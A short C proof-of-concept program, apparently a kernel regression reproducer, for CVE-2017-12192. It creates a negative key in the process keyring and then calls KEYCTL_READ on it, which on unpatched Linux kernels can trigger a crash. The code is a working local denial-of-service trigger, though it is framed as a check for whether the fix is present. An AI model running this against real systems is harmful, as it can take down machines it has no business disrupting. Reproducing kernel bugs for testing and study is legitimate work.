/*
 * CVE-2017-12192: reading a key whose construction failed. No helper program can make the
 * requested key, so the kernel leaves a negative one, without a payload, in the process keyring.
 */
#include <stdint.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

/* include/uapi/linux/keyctl.h */
#define PROCESS_KEYRING -2
#define KEYCTL_READ 11

int main(void)
{
	int32_t serials[8];
	char payload[64];
	long bytes;

	if (syscall(SYS_request_key, "user", "kgym:negative", "", PROCESS_KEYRING) != -1) {
		fputs("a helper made the key\n", stderr);
		return 1;
	}
	bytes = syscall(SYS_keyctl, KEYCTL_READ, PROCESS_KEYRING, serials, sizeof(serials));
	if (bytes < (long)sizeof(serials[0])) {
		perror("no negative key in the process keyring");
		return 1;
	}
	/* A fixed kernel refuses with ENOKEY. */
	syscall(SYS_keyctl, KEYCTL_READ, serials[0], payload, sizeof(payload));
	return 0;
}
